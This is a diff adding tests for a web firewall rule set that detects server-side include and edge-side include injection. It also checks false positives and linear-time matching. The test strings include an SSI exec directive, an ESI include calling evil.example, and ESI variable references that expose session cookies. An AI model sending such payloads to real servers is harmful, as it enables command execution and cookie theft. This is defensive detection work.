@@ -33,3 +33,22 @@ test('linear time on 64 KiB pathological input', () => {
     assert.ok(ms < 2000, `took ${ms} ms`);
   }
 });
+
+test('detects JS-escaped directives and ESI variable references', () => {
+  assert.deepEqual(matchAll(rules, '\\u003c!--#exec cmd="id"--\\u003e', 'json'), ['935100']);
+  assert.deepEqual(matchAll(rules, '\\u003cesi:include src="http://evil.example/"/\\u003e', 'json'), ['935110']);
+  for (const a of ["$(HTTP_COOKIE{'session'})", '$(QUERY_STRING)', 'x $(HTTP_USER_AGENT) y', '%24%28HTTP_HOST%29']) assert.deepEqual(matchAll(rules, a), ['935120'], a);
+});
+
+test('does not flag jQuery, Makefile variables or shell substitutions', () => {
+  const benign = ['$(document).ready()', '$(HTTP_PROXY)', '$(CC) -o out', 'echo $(date)', 'http_cookie is a header', '$(http_cookie_name'];
+  for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
+});
+
+test('linear time on 64 KiB pathological input (ESI variables, escaped forms)', () => {
+  const inputs = ['$('.repeat(32768), '$(http_'.repeat(9362), '\\u003c!--#'.repeat(6553)];
+  for (const s of inputs) {
+    const ms = timeAll(rules, s);
+    assert.ok(ms < 2000, `took ${ms} ms`);
+  }
+});
